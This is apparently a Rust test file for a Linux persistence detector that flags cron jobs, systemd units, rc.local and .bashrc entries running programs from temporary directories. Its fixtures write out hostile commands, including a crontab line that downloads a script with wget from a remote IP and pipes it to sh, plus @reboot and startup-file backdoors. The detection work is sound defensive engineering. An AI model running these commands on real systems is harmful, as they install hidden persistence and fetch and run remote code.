use super::*;
use crate::heuristics::testing::{cron_job, found, history, unit};
use crate::mitre;
use riposte_model::{Action, EventOrigin};

fn ran(cmd: &str) -> Vec<(String, Severity)> {
    found(&TmpPersistence.detect(&history(&[cmd])))
}

fn is(id: &str, severity: Severity) -> Vec<(String, Severity)> {
    vec![(id.to_string(), severity)]
}

#[test]
fn scheduled_entries_running_from_temporary_directories() {
    let syslog_cron = Event::new(
        None,
        "web1",
        Action::ProcessRun,
        "cron ran",
        EventOrigin {
            parser: "syslog_messages".into(),
            path: "/var/log/syslog".into(),
            record: Some(9),
        },
    )
    .with("cmd", "/tmp/.X25-unix/.rsync/c/tsm -t 150 -S 6")
    .with("service", "cron")
    .with("username", "root");
    let events = vec![
        cron_job(1, "cd /dev/shm && ./.x/upd >/dev/null 2>&1"),
        cron_job(2, "find /tmp -type f -mtime +7 -delete"),
        unit("kworker.service", "/bin/bash /var/tmp/.k/run.sh"),
        unit("backup.service", "/usr/local/bin/backup --tmp /tmp/backup"),
        syslog_cron,
    ];
    let alarms = TmpPersistence.detect(&events);
    assert_eq!(
        alarms
            .iter()
            .map(|a| (a.title.as_str(), a.event_refs.clone()))
            .collect::<Vec<_>>(),
        [
            (
                "Cron job runs a program from /dev/shm by root: cd /dev/shm && ./.x/upd >/dev/null 2>&1",
                vec![0]
            ),
            (
                "Systemd unit runs a program from /var/tmp (kworker.service): /bin/bash /var/tmp/.k/run.sh",
                vec![2]
            ),
            (
                "Cron ran a program from /tmp by root: /tmp/.X25-unix/.rsync/c/tsm -t 150 -S 6",
                vec![4]
            ),
        ]
    );
    assert!(alarms.iter().all(|a| a.severity == Severity::High));
    assert_eq!(alarms[0].mitre[0], mitre("persistence", "T1053.003"));
    assert_eq!(alarms[1].mitre[0], mitre("persistence", "T1543.002"));
}

#[test]
fn commands_installing_bad_entries() {
    for (cmd, technique) in [
        (
            r#"(crontab -l 2>/dev/null; echo "* * * * * /tmp/.x/kinsing") | crontab -"#,
            "T1053.003",
        ),
        (
            r#"(crontab -l ; echo "*/5 * * * * wget -q -O - http://203.0.113.7/d.sh | sh > /dev/null 2>&1") | crontab -"#,
            "T1053.003",
        ),
        (
            r#"echo "*/3 * * * * root /var/tmp/.u/up" >> /etc/crontab"#,
            "T1053.003",
        ),
        (
            "echo '@reboot sh /dev/shm/s.sh' > /etc/cron.d/0sys",
            "T1053.003",
        ),
        ("echo 'nohup /tmp/.x/y &' >> /etc/rc.local", "T1037.004"),
        (
            "echo '/dev/shm/.b >/dev/null 2>&1 &' >> ~/.bashrc",
            "T1546.004",
        ),
        (
            r#"printf "[Service]\nExecStart=/tmp/x\n" > /etc/systemd/system/x.service"#,
            "T1543.002",
        ),
    ] {
        let alarms = TmpPersistence.detect(&history(&[cmd]));
        assert_eq!(
            found(&alarms),
            is("persistence_from_tmp", Severity::High),
            "{cmd}"
        );
        assert_eq!(alarms[0].mitre[0].technique, technique, "{cmd}");
    }
}

#[test]
fn other_cron_installs_are_low_and_staged_crontabs_medium() {
    assert_eq!(
        ran(r#"(crontab -l; echo "0 2 * * * /usr/local/bin/backup.sh") | crontab -"#),
        is("cron_job_added", Severity::Low)
    );
    assert_eq!(
        ran(r#"echo "0 4 * * * root /usr/sbin/logrotate /etc/logrotate.conf" >> /etc/crontab"#),
        is("cron_job_added", Severity::Low)
    );
    assert_eq!(
        ran("crontab /tmp/.c"),
        is("crontab_from_tmp", Severity::Medium)
    );
}

#[test]
fn near_misses_raise_nothing() {
    for cmd in [
        "crontab -l",
        "crontab -e",
        "crontab -r",
        "crontab /home/bob/my.cron",
        "echo 'export PATH=$PATH:/opt/bin' >> ~/.bashrc",
        "echo 'alias ll=\"ls -l\"' >> ~/.bashrc",
        "echo 'export TMPDIR=/tmp/build' >> ~/.profile",
        "/tmp/x",
        "cat /etc/crontab",
        "echo hello > /tmp/x",
    ] {
        assert_eq!(ran(cmd), [], "{cmd}");
    }
    let events = [
        cron_job(1, "find /tmp -type f -mtime +7 -delete"),
        cron_job(2, "/usr/local/bin/job --workdir /tmp/job"),
        cron_job(3, "rm -rf /var/tmp/cache"),
        unit("a.service", "/usr/bin/app --pid /run/app.pid"),
    ];
    assert!(TmpPersistence.detect(&events).is_empty());
}

#[test]
fn strip_schedule_handles_nicknames_and_fields() {
    assert_eq!(strip_schedule("@reboot /tmp/x"), "/tmp/x");
    assert_eq!(
        strip_schedule("*/5 * * * * root /tmp/x -a"),
        "root /tmp/x -a"
    );
    assert_eq!(strip_schedule("0 0 1 jan mon cmd"), "cmd");
    assert_eq!(strip_schedule("/tmp/x"), "/tmp/x");
}
